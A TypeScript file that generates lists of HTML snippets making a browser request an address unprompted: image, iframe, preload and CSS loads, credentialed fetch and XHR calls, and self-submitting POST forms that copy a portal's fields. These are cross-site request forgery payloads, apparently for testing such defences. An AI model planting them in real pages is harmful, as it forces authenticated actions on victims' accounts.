/** Every way in which a page makes a browser ask for an address without a click on it. */
export function embeds(address: string): string[] {
  return [
    `<img src="${address}">`,
    `<img src="${address}" referrerpolicy="no-referrer" crossorigin="use-credentials">`,
    `<iframe src="${address}"></iframe>`,
    `<iframe src="${address}" sandbox="allow-scripts allow-same-origin allow-forms"></iframe>`,
    `<script src="${address}"></script>`,
    `<script type="module" src="${address}" crossorigin="use-credentials"></script>`,
    `<link rel="stylesheet" href="${address}">`,
    `<link rel="prefetch" href="${address}">`,
    `<link rel="prefetch" as="document" href="${address}">`,
    `<link rel="prerender" href="${address}">`,
    `<link rel="preload" as="fetch" href="${address}" crossorigin="use-credentials">`,
    `<link rel="modulepreload" href="${address}" crossorigin="use-credentials">`,
    `<link rel="icon" href="${address}">`,
    `<link rel="manifest" href="${address}" crossorigin="use-credentials">`,
    `<object data="${address}"></object>`,
    `<embed src="${address}">`,
    `<video src="${address}" preload="auto"></video>`,
    `<audio src="${address}" preload="auto"></audio>`,
    `<video><track src="${address}" default kind="captions"></video>`,
    `<svg><image href="${address}"/></svg><svg><use href="${address}#a"/></svg>`,
    `<p style="background-image:url('${address}')">.</p>`,
    `<style>@import url("${address}"); @font-face{font-family:a;src:url("${address}")} b{font-family:a}</style><b>a</b>`,
    `<script>fetch("${address}",{mode:"no-cors",credentials:"include"}).catch(()=>0)</script>`,
    `<script>fetch("${address}",{credentials:"include"}).catch(()=>0)</script>`,
    `<script>fetch("${address}",{method:"HEAD",mode:"no-cors",credentials:"include"}).catch(()=>0)</script>`,
    `<script>fetch("${address}.data",{mode:"no-cors",credentials:"include"}).catch(()=>0)</script>`,
    `<script>var x=new XMLHttpRequest();x.open("GET","${address}");x.withCredentials=true;x.onerror=()=>0;x.send()</script>`,
    `<script>new EventSource("${address}",{withCredentials:true}).onerror=e=>e.target.close()</script>`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${address}"]}],"prerender":[{"source":"list","urls":["${address}"]}]}</script>`,
    `<form action="${address}" target="in"><input name="n"></form><iframe name="in"></iframe><script>document.forms[0].submit()</script>`,
    `<script>window.open("${address}")</script>`,
    `<script>var w=window.open("about:blank");if(w)w.location="${address}"</script>`,
  ]
}

/** Forms that a page sends by itself, in a frame and in a window, each with the fields the portal's own form has. */
export function forms(address: string, fields: Record<string, string>): string[] {
  const inputs = Object.entries(fields).map(([name, value]) => `<input name="${name}" value="${value}">`)
  const ways = [
    'target="in"',
    'target="_blank"',
    'enctype="multipart/form-data" target="in"',
    'enctype="text/plain" target="in"',
  ]
  return [
    ...ways.map(
      (way) =>
        `<iframe name="in"></iframe><form method="post" action="${address}" ${way}>${inputs.join('')}</form><script>document.forms[0].submit()</script>`,
    ),
    `<iframe name="in" sandbox="allow-forms allow-scripts" srcdoc='<form method=post action="${address}">${inputs.join('')}</form><script>document.forms[0].submit()</script>'></iframe>`,
    `<script>navigator.sendBeacon("${address}",new URLSearchParams(${JSON.stringify(fields)}))</script>`,
    `<script>fetch("${address}",{method:"POST",mode:"no-cors",credentials:"include",body:new URLSearchParams(${JSON.stringify(fields)})}).catch(()=>0)</script>`,
    `<script>fetch("${address}",{method:"POST",credentials:"include",body:new URLSearchParams(${JSON.stringify(fields)})}).catch(()=>0)</script>`,
    `<a ping="${address}" href="#x" id="a">a</a><script>document.getElementById("a").click()</script>`,
  ]
}
